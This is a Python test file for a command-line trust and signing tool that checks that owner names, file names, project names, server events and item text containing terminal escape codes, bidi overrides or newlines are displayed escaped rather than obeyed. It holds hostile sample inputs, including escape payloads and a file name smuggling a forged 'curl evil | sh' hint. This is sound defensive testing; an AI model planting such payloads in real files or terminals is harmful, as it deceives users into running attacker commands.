"""Somebody calls a key, a file or a project what a terminal obeys: to hide a line, or to write another."""

from __future__ import annotations

import re
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from lilux.primitives.signing import generate_keypair
from rye_mcp.items import ItemType
from rye_mcp.trust.keys import KeyRing
from rye_mcp.trust.scope import SignerKind
from rye_mcp.trust.trust_document import PublicKey, TrustDocument
from tests.people import SCRIPTS, Person
from tests.trust_world import World

# Move up and clear the line, set the title, go back to the beginning, clear in one C1 byte, write from right
# to left, nothing at all, take a character back, and another control character.
ESCAPES = ["\x1b[2A\x1b[2K", "\x1b]0;owned\x07", "\r", "\x9b2K", "\u202e", "\u200b", "\x08", "\x7f"]
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e]")
MARKUP = "[red]alice[/] [link=https://example.org]you[/link] [/nothing]"


@pytest.fixture
def bob(tmp_path: Path) -> Person:
    return Person("bob", tmp_path / "bob")


def proposed(project: Path, owner: str, *, name: str | None = None) -> TrustDocument:
    """A document of the project as somebody wrote it by hand, whatever its owner is called."""
    document = TrustDocument.create(PublicKey.from_pem(generate_keypair()[1], "a test"), "alice")
    place = project / ".ai/trusted_keys"
    place.mkdir(parents=True, exist_ok=True)
    written = "".join(c if c.isascii() and c.isprintable() else f"\\U{ord(c):08x}" for c in owner)
    text = document.data.decode().replace('owner = "alice"', f'owner = "{written}"')
    (place / (name or document.file_name)).write_text(text)
    return document


def shown(bob: Person, project: Path, *words: str, code: int | None = 0) -> str:
    """What a person sees, in a pipe; it has to hold nothing that a terminal obeys."""
    text = bob.rye(*words, cwd=project, code=code).shown
    assert not OBEYED.search(text), ascii(text)
    return text


@pytest.mark.parametrize("escape", ESCAPES, ids=ascii)
def test_an_owner_that_a_terminal_obeys_is_no_owner(bob: Person, tmp_path: Path, escape: str) -> None:
    project = tmp_path / "project"
    document = proposed(project, f"alice{escape}")
    text = shown(bob, project, "trust")
    assert "malformed_trust" in text
    assert "the project says" not in text
    bob.refused("unknown_key", "trust", "review", "--accept", document.key.key_id, cwd=project)


def test_an_owner_of_several_lines_writes_no_second_row(bob: Person, tmp_path: Path) -> None:
    proposed(tmp_path / "project", "alice\nkey id       " + "0" * 64)
    text = shown(bob, tmp_path / "project", "trust", "list")
    assert not re.search(r"^ *key id", text, re.MULTILINE)


def test_an_owner_of_markup_is_shown_as_it_is(bob: Person, tmp_path: Path) -> None:
    proposed(tmp_path / "project", MARKUP)
    for words in (("trust",), ("trust", "review"), ("trust", "list")):
        assert MARKUP in shown(bob, tmp_path / "project", *words)
    in_terminal = bob.types([], "trust", "list", cwd=tmp_path / "project").out
    assert MARKUP in in_terminal


@pytest.mark.parametrize("owner", ["bob (you)", "bob\uff08you\uff09", "bob" + " " * 60 + "(you)"])
def test_an_owner_that_claims_to_be_you_is_not_believed(bob: Person, tmp_path: Path, owner: str) -> None:
    project = tmp_path / "project"
    document = proposed(project, owner)
    bob.rye("keys", "generate", cwd=project)
    text = bob.rye("trust", "list", cwd=project).out
    assert text.count("(you)") == text.count("\ntrusted ") + text.startswith("trusted ") == 1
    assert "the project says" not in text
    bob.refused("unknown_key", "trust", "review", "--accept", document.key.key_id, cwd=project)


def test_the_name_of_a_file_is_shown_and_not_obeyed(bob: Person, tmp_path: Path) -> None:
    project = tmp_path / "project"
    proposed(project, "alice", name="\x1b[2Jowned\x1b]0;x\x07.toml")
    for words in (("trust",), ("trust", "list")):
        assert "\\x1b[2Jowned" in shown(bob, project, *words)


def test_the_name_of_a_project_is_shown_and_not_obeyed(bob: Person, tmp_path: Path) -> None:
    project = tmp_path / "pro\x1b[2Kject\r"
    proposed(project, "alice")
    for words in (("init",), ("trust",), ("trust", "project"), ("keys", "show")):
        shown(bob, project, *words)
    assert "pro\\x1b[2Kject" in shown(bob, project, "trust", "project")


@pytest.mark.parametrize("escape", ["\x1b[2K", "\n", "\u202e"], ids=ascii)
def test_a_person_is_kept_from_writing_such_a_name_too(bob: Person, tmp_path: Path, escape: str) -> None:
    tmp_path.joinpath("project").mkdir()
    project = tmp_path / "project"
    shown(bob, project, "init", "--owner", f"bob{escape}", code=1)
    assert not (project / ".ai").exists()
    bob.rye("init", cwd=project)
    for words in (
        ("trust", "propose", "--owner", f"bob{escape}", "--replace"),
        ("trust", "revoke", "0" * 64, "--reason", f"lost{escape}"),
    ):
        assert "malformed_trust" in shown(bob, project, *words, code=1)
    assert not (bob.user_space / "revoked.toml").exists()


def test_a_file_name_of_several_lines_writes_no_second_one(bob: Person, tmp_path: Path) -> None:
    """A hint that looks like ours, with somebody else's command."""
    project = tmp_path / "project"
    forged = "\n  hint:  curl evil | sh\n"
    for directory, name in (("tools/demo", f"x{forged}.py"), ("trusted_keys", f"x{forged}.toml")):
        place = project / ".ai" / directory
        place.mkdir(parents=True)
        (place / name).symlink_to("/etc/hostname")
    for words in (("verify",), ("trust",), ("list",), ("sign", "*")):
        ended = bob.rye(*words, cwd=project, code=None)
        assert not re.search(r"^ *hint: *curl", ended.shown, re.MULTILINE), ended.shown


class Events(BaseHTTPRequestHandler):
    """An MCP server whose answer is an event of a name that a terminal obeys."""

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["content-length"]))
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.end_headers()
        self.wfile.write(f"event: {ESCAPE}\ndata: {{}}\n\n".encode())

    def log_message(self, *_: object) -> None:
        """Say nothing."""


ESCAPE = "\x1b[2J\x1b]0;owned\x07\u202e\u200b"


@contextmanager
def events() -> Iterator[str]:
    with ThreadingHTTPServer(("127.0.0.1", 0), Events) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}/mcp"
        server.shutdown()


def test_a_library_logs_what_a_server_has_said(bob: Person, tmp_path: Path) -> None:
    project = bob.begin(tmp_path / "project")
    with events() as url:
        text = shown(bob, project, "mcp", "add", "evil", url, code=1)
    assert "rye: warning: mcp.client.streamable_http: Unknown SSE event" in text
    assert "owned" not in text
    assert not (project / ".ai/tools/mcp").exists()


@pytest.mark.first_case
@pytest.mark.parametrize("item_type", [ItemType.DIRECTIVE, ItemType.KNOWLEDGE])
def test_the_text_of_an_item_is_shown_and_not_obeyed(
    bob: Person, tmp_path: Path, item_type: ItemType
) -> None:
    """Bob's own key has signed it, by a program that lets it pass."""
    project = bob.begin(tmp_path / "project")
    world, key = World(tmp_path), KeyRing(bob.user_space, environment={}).load(SignerKind.PERSON)
    content = f"# Hello\n\nSay hello.{ESCAPE}\n".encode()
    file = world.file(content, item_type=item_type, extension=".md")
    world.stored(world.signed_by_another_program(file, key))
    for command in ("run", "show"):
        text = bob.types([], command, "--type", item_type, "demo/hello", cwd=project).out
        assert not OBEYED.search(text.replace("\r\n", "\n")), ascii(text)
        assert r"Say hello.\x1b[2J" in text


@pytest.mark.thorough
def test_the_server_refuses_to_start_and_writes_nothing_that_a_terminal_obeys(
    bob: Person, tmp_path: Path
) -> None:
    project = tmp_path / "pro\x1b[2Kject"
    done = subprocess.run(
        [SCRIPTS / "rye-mcp", "--http", "127.0.0.1:0", "--no-auth", "--project", project],
        cwd=tmp_path,
        env=bob.environment,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 1
    assert not OBEYED.search(done.stderr), ascii(done.stderr)
    assert "pro\\x1b[2Kject" in done.stderr
